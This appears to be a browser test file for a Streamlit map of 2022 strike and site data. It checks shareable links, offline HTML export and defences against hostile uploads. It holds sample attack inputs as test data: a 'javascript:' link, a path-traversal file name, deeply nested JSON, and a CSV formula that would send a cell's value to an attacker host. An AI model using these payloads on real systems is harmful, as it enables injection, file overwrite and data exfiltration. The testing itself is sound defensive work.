"""A view travels: a permalink reopens it, the downloaded HTML shows it offline from disk."""

from __future__ import annotations

import json
import re
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest
from playwright.sync_api import expect

from harness import COUNT_LAYERS_JS, OfflinePage

pytestmark = pytest.mark.browser

LINK = "?start=2022-10-01&end=2022-10-31&layers=sites,strikes&lat=47.5000&lon=33.0000&zoom=6"


def test_permalink_reopens_the_same_view(app_server, offline_page, browser) -> None:
    offline_page.open_map(app_server.url + LINK)
    page = offline_page.page
    # .first: while the controls come, Streamlit shows the old caption beside the new one for a moment.
    caption = page.get_by_text(
        re.compile(r"^\d+ strikes? · \d+ sites? · 1 Oct – 31 Oct 2022$")
    ).first.inner_text()
    counts = offline_page.layer_counts()
    assert counts["rings"] == 0 and counts["strikes"] > 0  # rings were left out of the link
    centre, zoom = offline_page.leaflet_frame().evaluate(
        "() => [window.map.getCenter(), window.map.getZoom()]"
    )
    assert zoom == 6 and abs(centre["lat"] - 47.5) < 0.05 and abs(centre["lng"] - 33.0) < 0.05

    # The app writes the whole view back into the address bar; a fresh page opening it agrees.
    page.wait_for_function("() => window.location.search.includes('unit=')", timeout=20_000)
    shared = page.evaluate("() => window.location.href")
    query = parse_qs(urlsplit(shared).query)
    assert query["start"] == ["2022-10-01"] and query["layers"] == ["sites,strikes"]
    other = OfflinePage(browser)
    try:
        other.open_map(shared)
        # Wait for the caption rather than count it at once: it is redrawn when the controls come.
        other.page.get_by_text(caption).first.wait_for(timeout=30_000)
        assert other.layer_counts() == counts
        assert other.foreign_requests == []
    finally:
        other.close()


def test_invalid_link_values_are_ignored_with_a_notice(app_server, offline_page) -> None:
    page = offline_page.page
    # A toast goes after a few seconds: read it as it comes, then wait for the map.
    page.goto(app_server.url + "?start=2022-13-45&lat=999&lon=30&layers=sites,heat")
    page.get_by_text(re.compile(r"Link: ignored start=")).first.wait_for(timeout=120_000)
    offline_page.wait_for_map()
    assert offline_page.layer_counts()["sites"] > 0
    assert offline_page.errors == []


def test_hostile_link_values_are_shown_literally_in_streamlit_text(app_server, offline_page) -> None:
    """A link's values reach Streamlit markdown (the notice) and the title: Markdown, LaTeX,
    HTML and entities from tests/hostile.py are shown as written, never rendered or run."""
    from urllib.parse import quote

    from tests.hostile import LATEX, MARKDOWN

    start = "**b** $x^2$ :red[r] [l](javascript:alert(1)) &lt;b&gt; <i>"
    title = LATEX[1] + " " + MARKDOWN[0]
    page = offline_page.page
    # A toast goes after a few seconds: read it as it comes, not after the map is drawn.
    page.goto(app_server.url + f"?start={quote(start)}&title={quote(title)}")
    toast = page.get_by_text(re.compile(r"^Link: ignored start=")).first
    toast.wait_for(timeout=120_000)
    rendered = "[data-testid=stToast] :is(strong, em, a, img, i, b, .katex, span[class*=color])"
    assert (toast.inner_text(), page.locator(rendered).count()) == (
        f"Link: ignored start={start[:40]!r}: not a date YYYY-MM-DD",
        0,
    )
    offline_page.open_map(app_server.url + f"?title={quote(title)}")
    title_input = page.get_by_label("Title")
    offline_page.open_lazy("Share and export this view", shows=title_input)
    expect(title_input).to_have_value(title, timeout=60_000)  # the panel's run fills it
    assert offline_page.dialogs == [] and offline_page.errors == []


def test_downloaded_html_opens_from_disk_with_no_network(app_server, offline_page, browser, tmp_path) -> None:
    offline_page.open_map(app_server.url + "?start=2022-10-01&end=2022-10-31")
    page = offline_page.page
    in_app = offline_page.layer_counts()
    html_button = page.get_by_role("button", name="Download HTML (works offline)")
    offline_page.open_lazy("Share and export this view", shows=html_button)
    with page.expect_download(timeout=60_000) as download:
        html_button.click()
    path = tmp_path / "view.html"
    download.value.save_as(path)

    context = browser.new_context()
    blocked: list[str] = []
    context.route("**/*", lambda route: route.continue_() if route.request.url.startswith(("file:", "data:"))
                  else (blocked.append(route.request.url), route.abort()))  # fmt: skip
    try:
        standalone = context.new_page()
        errors: list[str] = []
        standalone.on("pageerror", lambda error: errors.append(str(error)))
        standalone.goto(path.as_uri())
        standalone.locator(".leaflet-atlas-borders-pane path").first.wait_for(
            state="attached", timeout=30_000
        )
        counts = standalone.evaluate(COUNT_LAYERS_JS)
        assert counts["strikes"] == in_app["strikes"] and counts["sites"] == in_app["sites"]
        assert counts["regions"] == in_app["regions"]  # the oblasts the window's region records shade
        assert counts["borders"] == in_app["borders"]
        assert "1 Oct – 31 Oct 2022" in standalone.locator(".atlas-stamp").inner_text()
        standalone.click('.atlas-playback [data-act="play"]')
        standalone.wait_for_function("() => document.querySelector('.atlas-playback-day').textContent !== ''")
        assert blocked == [] and errors == []
    finally:
        context.close()


def test_add_data_upload_imports_and_reports(app_server, offline_page, tmp_path) -> None:
    from tests.app.test_upload import GEOJSON

    offline_page.open_map(app_server.url)
    page = offline_page.page
    before = int(page.get_by_text(re.compile(r"^\d+ strikes? · ")).first.inner_text().split()[0])
    dropzone = page.locator('[data-testid="stFileUploaderDropzoneInput"]')
    offline_page.open_lazy("Add data: CSV or GeoJSON", shows=dropzone)
    upload = tmp_path / "events.geojson"
    upload.write_text(json.dumps(GEOJSON), encoding="utf-8")
    dropzone.set_input_files(str(upload))
    page.get_by_role("button", name="Import").click()
    page.get_by_text(re.compile(r"read 2, accepted 1, rejected 1")).first.wait_for(timeout=120_000)
    page.get_by_text(re.compile(rf"^{before + 1} strikes · ")).first.wait_for(timeout=120_000)
    assert offline_page.errors == [] and offline_page.foreign_requests == []


def test_add_data_gives_each_hostile_upload_a_message_and_writes_only_its_own_directory(
    browser, tmp_path
) -> None:
    """A name with folders, JSON 100,000 deep, polygons only and formulas, uploaded at once:
    one line each on the page (kept after the import's rerun), no traceback, a report with
    no formula, and nothing written outside the session's upload directory."""
    import csv
    import io

    from harness import AppServer
    from tests.conftest import PROJECT_DATA
    from tests.hostile import runs_as_formula

    url = "https://example.org/a"
    polygon = {"type": "Polygon", "coordinates": [[[30, 50], [31, 50], [31, 51], [30, 50]]]}
    uploads = {
        "../../x.csv": f"lat,lon,date,source_url\n50.4,30.5,2022-10-17,{url}\n",
        "deep.json": "[" * 100_000 + "]" * 100_000,
        "polygons.geojson": json.dumps(
            {
                "type": "FeatureCollection",
                "features": [{"type": "Feature", "geometry": polygon, "properties": {}}],
            }
        ),
        "=cmd.csv": "id,lat,lon,date,source_url,place\n"
        f"=1+1,50.4,30.5,bad,{url},x\n"
        f'f1,50.4,30.5,2022-10-17,{url},"=HYPERLINK(""http://evil.example/?""&A1,""Click"")"\n',
    }
    temp = tmp_path / "server" / "tmp"  # the server's temporary folder, two levels down
    temp.mkdir(parents=True)
    server = AppServer(PROJECT_DATA, {"TMPDIR": str(temp)})
    page = OfflinePage(browser)
    try:
        page.open_map(server.url)
        p = page.page
        p.get_by_text("Add data: CSV or GeoJSON").click()
        payloads = [{"name": n, "mimeType": "text/plain", "buffer": t.encode()} for n, t in uploads.items()]
        p.locator('[data-testid="stFileUploaderDropzoneInput"]').set_input_files(payloads)
        p.get_by_text("polygons.geojson").first.wait_for(timeout=30_000)  # the uploads are listed
        p.get_by_role("button", name="Import").click()
        report = p.locator("pre").filter(has_text="total: read 2, accepted 1, rejected 1").first
        report.wait_for(timeout=120_000)
        text = report.inner_text()
        assert (
            "refused: '../../x.csv' is not a plain file name (no folders, no '..'): rename the file" in text
        )
        assert "deep.json [geojson]: read 0, accepted 0, rejected 0" in text
        assert "error: JSON nested too deeply to read (arrays or objects inside each other)" in text
        assert "error: no Point features (found 1 Polygon): the atlas imports points only" in text
        assert "Traceback" not in p.locator("body").inner_text() and page.errors == []
        with p.expect_download(timeout=60_000) as download:
            p.get_by_role("button", name="Download the full import report (CSV)").click()
        rows = list(csv.reader(io.StringIO(Path(download.value.path()).read_text(encoding="utf-8"))))
        assert [cell for row in rows for cell in row if runs_as_formula(cell)] == []
        assert [
            "'=cmd.csv",
            "2",
            "rejected",
            "date not understood: bad",
            f"'=1+1,50.4,30.5,bad,{url},x",
        ] in rows
    finally:
        page.close()
        server.stop()
    written = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert written and all(p.relative_to(temp).parts[0].startswith("droneatlas-upload-") for p in written)
    assert not any(p.name == "x.csv" for p in tmp_path.rglob("*"))
